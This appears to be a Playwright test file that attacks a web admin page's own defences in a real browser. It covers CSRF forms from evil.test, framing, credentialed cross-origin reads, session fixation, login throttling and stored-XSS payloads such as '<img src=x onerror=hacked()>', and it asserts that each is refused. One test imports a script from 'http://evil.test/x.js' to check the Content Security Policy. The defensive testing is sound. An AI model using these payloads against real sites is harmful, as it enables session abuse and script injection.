"""Attacks on the page in a real browser, each refused. The rest of them are in `tests/listener/page/test_attacks.py`.

The attacker's pages are served by the test inside the browser. `evil.test` is another site. Another port of the page's
own address is another origin of the same site: browsers send SameSite cookies from there, so it is the stronger one.
"""

import re
import time
from collections.abc import Callable

import pytest
from playwright.sync_api import StorageState, expect

from daemon.listener.access import DELAY, FREE
from daemon.listener.page.login import WRONG
from daemon.listener.page.page import ACTIONS
from tests.prove.browser.conftest import OpenVisitor
from tests.prove.browser.pages import dry_run, search
from tests.prove.browser.site import ANNA, HOSTILE, Site
from tests.prove.browser.visitor import Visitor, serve

pytestmark = [pytest.mark.chromium, pytest.mark.timeout(300)]

BOOKS = "/sites/test/books"
ELSEWHERE = ("http://evil.test/", "http://127.0.0.1:9/")


def actions(site: Site) -> list[tuple[str, str, str]]:
    """Return what the audit log has of books: operators, actions and outcomes."""
    rows = site.run(site.process.request, "GET", "/admin/audit?site=test/books").json()["audit"]
    return [(row["operator"], row["action"], row["outcome"]) for row in rows]


@pytest.mark.parametrize(("address", "status"), [(ELSEWHERE[0], 200), (ELSEWHERE[1], 403)])
def test_a_form_of_another_page_does_nothing(
    visit: OpenVisitor, anna: StorageState, site: Site, address: str, status: int
) -> None:
    visitor = visit(anna)
    visitor.refusals.add(403)
    visitor.go(BOOKS)
    stolen = visitor.page.locator("input[name=csrf]").first.get_attribute("value")
    before = actions(site)
    fields = f'<input name="kind" value="products"><input name="csrf" value="{stolen}">'
    form = f'<form method="post" action="{site.url}{BOOKS}/sync">{fields}<button>Win a bicycle</button></form>'
    serve(visitor, address, form)
    visitor.go(address)
    with visitor.page.expect_navigation() as came:
        visitor.press("Win a bicycle")
    # From another site no cookie comes, so the login is shown. From another port it comes, and the form is refused.
    assert came.value.status == status
    expect(visitor.page.get_by_role("heading", level=1)).to_have_text(
        "Log in" if status == 200 else "This did not work"
    )
    assert actions(site) == before
    visitor.go(BOOKS)
    expect(visitor.page.get_by_role("heading", level=1)).to_contain_text("test/books")


@pytest.mark.parametrize("address", ELSEWHERE)
def test_another_page_frames_nothing_of_it(visit: OpenVisitor, anna: StorageState, site: Site, address: str) -> None:
    visitor = visit(anna)
    serve(visitor, "http://frames.test/", "<p>framed</p>")
    serve(visitor, address, f'<iframe src="{site.url}{BOOKS}"></iframe><iframe src="http://frames.test/"></iframe>')
    with visitor.page.expect_event("requestfailed", lambda request: request.url.startswith(site.url)) as refused:
        visitor.go(address)
    assert refused.value.failure == "net::ERR_BLOCKED_BY_RESPONSE"
    ours, control = visitor.page.frames[1:]
    expect(control.get_by_text("framed")).to_be_visible()
    expect(ours.get_by_role("heading")).to_have_count(0)
    visitor.troubles.clear()  # the browser may report the refusal


@pytest.mark.parametrize("address", ELSEWHERE)
def test_another_page_reads_nothing_of_it(visit: OpenVisitor, anna: StorageState, site: Site, address: str) -> None:
    visitor = visit(anna)
    serve(visitor, address, "")
    visitor.go(address)
    for mode in ("cors", "no-cors"):
        options = {"url": f"{site.url}{BOOKS}", "mode": mode}
        read = "({url, mode}) => fetch(url, {mode, credentials: 'include'}).then(a => a.text(), e => `${e}`)"
        assert visitor.page.evaluate(read, options) in {"", "TypeError: Failed to fetch"}
    visitor.troubles.clear()


def test_no_script_of_a_page_reads_the_session(visit: OpenVisitor, anna: StorageState) -> None:
    visitor = visit(anna)
    visitor.go("/")
    [cookie] = visitor.context.cookies()
    assert (cookie["name"], cookie["httpOnly"], cookie["sameSite"]) == ("ignite-sync", True, "Strict")
    assert visitor.page.evaluate("document.cookie") == ""


def test_a_planted_session_is_never_taken_over(visit: OpenVisitor, ben: StorageState) -> None:
    attacker, victim = visit(ben), visit(ben)
    attacker.go("/")
    victim.log_in(ANNA)
    expect(victim.page.get_by_text("anna (act)")).to_be_visible()
    planted, opened = (visitor.context.cookies()[0]["value"] for visitor in (attacker, victim))
    assert planted != opened
    attacker.page.reload()
    expect(attacker.page.get_by_text("ben (read)")).to_be_visible()


def test_a_planted_login_form_opens_nothing(visit: OpenVisitor) -> None:
    attacker, victim = visit(), visit()
    victim.refusals.add(403)
    attacker.go("/login")
    planted = attacker.page.locator("input[name=csrf]").get_attribute("value")
    victim.go("/login")
    victim.page.locator("input[name=csrf]").evaluate("(field, text) => { field.value = text }", planted)
    victim.page.get_by_label("Your token").fill(ANNA)
    victim.press("Log in")
    expect(victim.page.get_by_role("alert")).to_contain_text("This form has expired")
    victim.go("/")
    expect(victim.page).to_have_url(re.compile(r"/login$"))


def test_guesses_are_slowed_down(visit: OpenVisitor) -> None:
    visitor = visit()
    visitor.refusals.add(401)
    for _ in range(FREE + 1):
        began = time.monotonic()
        visitor.log_in("a guess")
        expect(visitor.page.get_by_role("alert")).to_have_text(WRONG)
    assert time.monotonic() - began >= DELAY
    visitor.log_in(ANNA)
    expect(visitor.page.get_by_role("heading", level=1)).to_have_text("Connections")


def test_a_reader_has_no_action_and_makes_none(visit: OpenVisitor, ben: StorageState, site: Site) -> None:
    visitor = visit(ben)
    visitor.refusals.add(403)
    visitor.go("/sites/test/bikes")
    expect(visitor.page.get_by_role("button")).to_have_text(["Log out", "Explain", "Filter"])
    expect(visitor.page.get_by_role("checkbox")).to_have_count(0)
    visitor.go(BOOKS)
    before = actions(site)
    for action in ACTIONS:
        statuses = visitor.page.evaluate(
            """action => fetch(`${location.pathname}/${action}`, {method: 'POST', body: new URLSearchParams({
              csrf: document.querySelector('[name=csrf]').value, kind: 'products', id: '1',
            })}).then(answer => answer.status)""",
            action,
        )
        assert statuses == 403, action
    made = actions(site)[: -len(before) or None]
    assert [(operator, outcome) for operator, _, outcome in made] == [("ben", "refused")] * len(ACTIONS)


def test_a_link_opens_no_other_site_and_no_page(visit: OpenVisitor, site: Site) -> None:
    merchant = visit()
    merchant.refusals.add(404)
    own, other = (site.link(name, seconds=3600).rpartition("/")[2].partition(".") for name in ("bikes", "toys"))
    for forged in (f"{other[0]}.{own[2]}", f"{own[0]}.{other[2]}", other[0], f"{other[0]}."):
        assert merchant.go(f"/shared/issues/{forged}").status == 404, forged
        expect(merchant.page.get_by_role("heading", level=1)).to_have_text("This link no longer works")
    merchant.go(site.link("bikes", seconds=3600))
    expect(merchant.page.get_by_role("main")).to_contain_text("For test/bikes")
    expect(merchant.page.get_by_role("main")).not_to_contain_text("test/toys")
    for path in ("/", "/sites/test/bikes", "/sites/test/bikes/issues.csv", "/sites/test/toys/verify"):
        merchant.go(path)
        expect(merchant.page).to_have_url(re.compile(r"/login(\?next=.*)?$"))


def hostile_pages(visitor: Visitor) -> dict[str, Callable[[], object]]:
    """Return the pages that show a merchant's texts, with the way to each."""
    kitchen = "test/kitchen"
    return {
        "connection": lambda: visitor.go(f"/sites/{kitchen}"),
        "product": lambda: search(visitor, kitchen, "SO-B909-L"),
        "matches": lambda: search(visitor, kitchen, HOSTILE),
        "customer": lambda: search(visitor, kitchen, "gustavo0@adventure-works.com"),
        "order": lambda: search(visitor, kitchen, "101"),
        "dry run": lambda: dry_run(visitor, "kitchen"),
        "unknown": lambda: search(visitor, "test/books", HOSTILE),
    }


@pytest.mark.parametrize("name", ["connection", "product", "matches", "customer", "order", "dry run", "unknown"])
def test_a_merchants_text_is_a_text(visit: OpenVisitor, anna: StorageState, name: str) -> None:
    visitor = visit(anna)
    hostile_pages(visitor)[name]()
    visitor.page.get_by_role("heading", level=1).wait_for()
    main = visitor.page.get_by_role("main")
    expect(main).to_contain_text("<script>hacked()</script><img src=x onerror=hacked()>")
    assert visitor.page.locator("main script, main img, [onerror], [onmouseover]").count() == 0
    assert "hacked()' 49" not in main.inner_text()  # a template in a template
    for element in visitor.page.locator("main strong, main li, main pre").all():
        element.hover()


def test_the_tests_see_a_script_that_runs_and_a_policy_that_is_violated(visit: OpenVisitor, anna: StorageState) -> None:
    visitor = visit(anna)
    visitor.go("/")
    visitor.page.evaluate("hacked(), alert('x')")
    visitor.page.evaluate("document.querySelector('main').innerHTML = '<img src=x onerror=hacked()>'")
    visitor.page.evaluate("import('http://evil.test/x.js').catch(() => 0)")
    visitor.page.wait_for_timeout(1)
    heard = " ".join(visitor.troubles)
    for text in (
        "ran as a script",
        "dialog: x",
        "policy violated: script-src-attr",
        "policy violated: script-src-elem",
    ):
        assert text in heard, heard
    visitor.troubles.clear()
